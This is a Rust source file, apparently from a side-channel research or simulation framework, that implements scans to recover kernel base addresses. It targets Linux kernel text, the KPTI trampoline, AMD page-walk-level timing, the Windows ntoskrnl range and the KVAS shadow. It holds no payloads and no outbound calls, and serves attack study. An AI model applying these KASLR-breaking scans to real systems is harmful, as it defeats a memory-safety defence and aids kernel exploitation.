use std::ops::Range;
use std::sync::Arc;
use std::time::Instant;

use crate::addr::{self, Level, KERNEL_TEXT_START, PAGE_2M, PAGE_4K, WINDOWS_START};
use crate::attacks::{walk_level_attack, Eviction, LevelBands, WalkLevel};
use crate::error::{Error, Result};
use crate::prober::{MeasurePolicy, Prober, SimProber, Vendor};
use crate::rng;
use crate::sim::TimingProfile;
use crate::space::{
    AddressSpace, ScenarioKind, ScenarioSpec, AMD_4K_OFFSETS, KVAS_PAGES, WINDOWS_KERNEL_SLOTS,
};

use super::scan::{Scanner, RETRIES};
use super::{Campaign, DetectedRegion, Outcome, ScanReport};

fn kernel_slot(i: usize) -> u64 {
    KERNEL_TEXT_START + i as u64 * PAGE_2M
}

/// Lowest run of at least two mapped 2 MiB slots (or one that reaches the
/// end of the range) in the kernel text range.
pub fn scan_kernel_base<P: Prober + ?Sized>(prober: &mut P, policy: MeasurePolicy) -> Result<ScanReport> {
    let t0 = Instant::now();
    let mut report = ScanReport::new(Campaign::ScanBase);
    let mut s = Scanner::calibrated(prober, policy)?;
    let run = s.first_run(addr::KERNEL_TEXT_SLOTS as usize, kernel_slot, |len, end| len >= 2 || end)?;
    s.finish(&mut report);
    if let Some((start, len)) = run {
        let base = kernel_slot(start);
        report.outcome = Outcome::Found;
        report.detected_base = Some(base);
        report.regions.push(DetectedRegion::new(base, len as u64 * PAGE_2M).labeled(vec!["kernel".into()]));
    }
    report.elapsed = t0.elapsed();
    Ok(report)
}

/// Finds the KPTI trampoline, the only kernel text left mapped for user
/// mode, and derives the base from its fixed offset.
pub fn scan_kpti<P: Prober + ?Sized>(
    prober: &mut P,
    policy: MeasurePolicy,
    trampoline_offset: u64,
) -> Result<ScanReport> {
    let t0 = Instant::now();
    let mut report = ScanReport::new(Campaign::ScanKpti);
    let mut s = Scanner::calibrated(prober, policy)?;
    let slots = addr::KERNEL_TEXT_SLOTS as usize;
    // Empty passes are repeated.
    for _ in 0..RETRIES {
        kpti_pass(&mut s, &mut report, slots, trampoline_offset)?;
        if report.is_found() {
            break;
        }
    }
    s.finish(&mut report);
    report.elapsed = t0.elapsed();
    Ok(report)
}

fn kpti_pass<P: Prober + ?Sized>(
    s: &mut Scanner<'_, P>,
    report: &mut ScanReport,
    slots: usize,
    trampoline_offset: u64,
) -> Result<()> {
    let mut from = 0;
    while from < slots {
        let Some((start, _)) = s.first_run(slots - from, |i| kernel_slot(from + i), |_, _| true)? else {
            break;
        };
        let tramp = kernel_slot(from + start);
        let pages = s
            .first_run(512, |i| tramp + i as u64 * PAGE_4K, |_, _| true)?
            .map_or(0, |(_, len)| len as u64);
        if let Some(base) = tramp.checked_sub(trampoline_offset).filter(|&b| b >= KERNEL_TEXT_START) {
            report.outcome = Outcome::Found;
            report.detected_base = Some(base);
            report
                .regions
                .push(DetectedRegion::new(tramp, pages * PAGE_4K).labeled(vec!["kpti-trampoline".into()]));
            break;
        }
        from += start + 1;
    }
    Ok(())
}

/// Calibration fixtures on a reference AMD layout whose base is known:
/// a present PT page, a non-present PT entry, a 2 MiB page and an empty slot.
pub fn amd_reference_fixtures(space: &AddressSpace) -> Result<Vec<(u64, WalkLevel, Level)>> {
    let t = space.truth();
    let (Some(base), Some(extent)) = (t.kernel_base, t.kernel_range()) else {
        return Err(Error::Config("reference layout has no kernel".into()));
    };
    let outside = if base > KERNEL_TEXT_START { base - PAGE_2M } else { extent.end };
    Ok(vec![
        (base + AMD_4K_OFFSETS[0], WalkLevel::Pt, Level::Pt),
        (base + AMD_4K_OFFSETS[0] + PAGE_4K, WalkLevel::NonPresent, Level::Pt),
        (base + 2 * PAGE_2M, WalkLevel::Pd, Level::Pd),
        (outside, WalkLevel::NonPresent, Level::Pd),
    ])
}

/// Level bands measured on the attacker's own reference machine, modeled as
/// a fresh AMD layout probed with the same timing profile.
pub fn amd_reference_bands(profile: &TimingProfile, samples: usize, seed: u64) -> Result<LevelBands> {
    let spec = ScenarioSpec::new(ScenarioKind::AmdLinux, rng::derive_seed(seed, 0xa3d));
    let space = Arc::new(AddressSpace::build(spec)?);
    let fixtures = amd_reference_fixtures(&space)?;
    let mut p = SimProber::new(space, profile.clone(), rng::derive_seed(seed, 0xa3e));
    LevelBands::calibrate(&mut p, &fixtures, samples)
}

/// Two-phase walk-level scan for CPUs whose kernel probes always walk: 2 MiB
/// stride to find the image extent, then 4 KiB stride inside the slots that
/// do not end at the PD level to find the embedded 4 KiB pages.
pub fn scan_amd_kernel<P: Prober + ?Sized>(
    prober: &mut P,
    policy: MeasurePolicy,
    bands: &LevelBands,
) -> Result<ScanReport> {
    if prober.vendor() != Vendor::Amd {
        return Err(Error::Capability("the walk-level kernel scan requires an AMD-style CPU".into()));
    }
    let t0 = Instant::now();
    let start_probes = prober.probes_issued();
    let mut report = ScanReport::new(Campaign::ScanAmd);
    let slots: Vec<u64> = (0..addr::KERNEL_TEXT_SLOTS as usize).map(kernel_slot).collect();
    let phase1 = walk_level_attack(prober, &slots, bands, policy, Eviction::OncePerBatch)?;
    let in_extent: Vec<bool> = phase1
        .iter()
        .map(|w| w.level != WalkLevel::NonPresent || w.depth == Level::Pt)
        .collect();
    let Some((first, len)) = longest_run(&in_extent) else {
        report.probes_issued = prober.probes_issued() - start_probes;
        report.slots_probed = slots.len() as u64;
        report.elapsed = t0.elapsed();
        return Ok(report);
    };
    report
        .regions
        .push(DetectedRegion::new(slots[first], len as u64 * PAGE_2M).labeled(vec!["kernel".into()]));

    let pages: Vec<u64> = phase1[first..first + len]
        .iter()
        .filter(|w| w.level != WalkLevel::Pd)
        .flat_map(|w| (0..512).map(move |i| w.addr + i * PAGE_4K))
        .collect();
    let phase2 = walk_level_attack(prober, &pages, bands, policy, Eviction::OncePerBatch)?;
    let pt: Vec<u64> = phase2.iter().filter(|w| w.level == WalkLevel::Pt).map(|w| w.addr).collect();
    if let Some((base, matched)) = vote_base(&pt) {
        for &o in &AMD_4K_OFFSETS {
            if matched.contains(&(base + o)) {
                report.regions.push(DetectedRegion::new(base + o, PAGE_4K).labeled(vec!["pt-page".into()]));
            }
        }
        report.detected_base = Some(base);
        if matched.len() == AMD_4K_OFFSETS.len() {
            report.outcome = Outcome::Found;
        } else {
            report.outcome = Outcome::Degraded;
            report.note = Some(format!("found {} of {} 4 KiB pages", matched.len(), AMD_4K_OFFSETS.len()));
        }
    } else {
        report.outcome = Outcome::Degraded;
        report.note = Some(format!("found 0 of {} 4 KiB pages", AMD_4K_OFFSETS.len()));
    }
    report.probes_issued = prober.probes_issued() - start_probes;
    report.slots_probed = (slots.len() + pages.len()) as u64;
    report.elapsed = t0.elapsed();
    Ok(report)
}

/// Longest run of `true`, earliest on ties.
fn longest_run(v: &[bool]) -> Option<(usize, usize)> {
    let mut best: Option<(usize, usize)> = None;
    let mut i = 0;
    while i < v.len() {
        if !v[i] {
            i += 1;
            continue;
        }
        let s = i;
        while i < v.len() && v[i] {
            i += 1;
        }
        if best.is_none_or(|(_, l)| i - s > l) {
            best = Some((s, i - s));
        }
    }
    best
}

/// The 2 MiB-aligned base that places the most PT-terminal pages on the
/// fixture offsets, lowest on ties, with the pages it explains.
fn vote_base(pt: &[u64]) -> Option<(u64, Vec<u64>)> {
    let mut votes: std::collections::BTreeMap<u64, Vec<u64>> = std::collections::BTreeMap::new();
    for &p in pt {
        for &o in &AMD_4K_OFFSETS {
            if let Some(b) = p.checked_sub(o).filter(|b| b % PAGE_2M == 0 && *b >= KERNEL_TEXT_START) {
                votes.entry(b).or_default().push(p);
            }
        }
    }
    votes.into_iter().fold(None, |best, (b, m)| match best {
        Some((_, ref bm)) if bm.len() >= m.len() => best,
        _ => Some((b, m)),
    })
}

/// Linear 2 MiB scan of the Windows kernel range for the first run of at
/// least five mapped slots.
pub fn scan_windows<P: Prober + ?Sized>(prober: &mut P, policy: MeasurePolicy) -> Result<ScanReport> {
    let t0 = Instant::now();
    let mut report = ScanReport::new(Campaign::ScanWindows);
    let mut s = Scanner::calibrated(prober, policy)?;
    let slot = |i: usize| WINDOWS_START + i as u64 * PAGE_2M;
    let need = WINDOWS_KERNEL_SLOTS as usize;
    let run = s.first_run(addr::WINDOWS_SLOTS as usize, slot, |len, _| len >= need)?;
    s.finish(&mut report);
    if let Some((start, len)) = run {
        report.outcome = Outcome::Found;
        report.detected_base = Some(slot(start));
        report.regions.push(DetectedRegion::new(slot(start), len as u64 * PAGE_2M).labeled(vec!["ntoskrnl".into()]));
    }
    report.elapsed = t0.elapsed();
    Ok(report)
}

/// [`scan_windows`] followed by a caller-supplied refinement of the found
/// base, for procedures that narrow the remaining low bits with further
/// probing. The refiner's probes count toward the report.
pub fn scan_windows_refined<P, F>(prober: &mut P, policy: MeasurePolicy, mut refine: F) -> Result<ScanReport>
where
    P: Prober + ?Sized,
    F: FnMut(&mut P, u64) -> Result<u64>,
{
    let mut report = scan_windows(prober, policy)?;
    if let Some(base) = report.detected_base {
        let before = prober.probes_issued();
        report.detected_base = Some(refine(prober, base)?);
        report.probes_issued += prober.probes_issued() - before;
    }
    Ok(report)
}

/// 4 KiB scan of `window` for a run of exactly three mapped pages, the
/// KVAS shadow; the base sits `kvas_offset` below it.
pub fn scan_kvas<P: Prober + ?Sized>(
    prober: &mut P,
    policy: MeasurePolicy,
    window: Range<u64>,
    kvas_offset: u64,
) -> Result<ScanReport> {
    let t0 = Instant::now();
    let mut report = ScanReport::new(Campaign::ScanKvas);
    let mut s = Scanner::calibrated(prober, policy)?;
    let first = addr::align_down(window.start, PAGE_4K);
    let n = ((window.end.saturating_sub(first)) / PAGE_4K) as usize;
    let page = |i: usize| first + i as u64 * PAGE_4K;
    let want = KVAS_PAGES as usize;
    let run = s.first_run(n, page, |len, _| len == want)?;
    s.finish(&mut report);
    if let Some((start, len)) = run {
        let shadow = page(start);
        report.regions.push(DetectedRegion::new(shadow, len as u64 * PAGE_4K).labeled(vec!["kvas-shadow".into()]));
        if len == want && shadow >= WINDOWS_START + kvas_offset {
            report.outcome = Outcome::Found;
            report.detected_base = Some(shadow - kvas_offset);
        } else {
            report.outcome = Outcome::Degraded;
            report.note = Some(format!("shadow run of {len} pages at {shadow:#x} does not fit the offset"));
        }
    }
    report.elapsed = t0.elapsed();
    Ok(report)
}
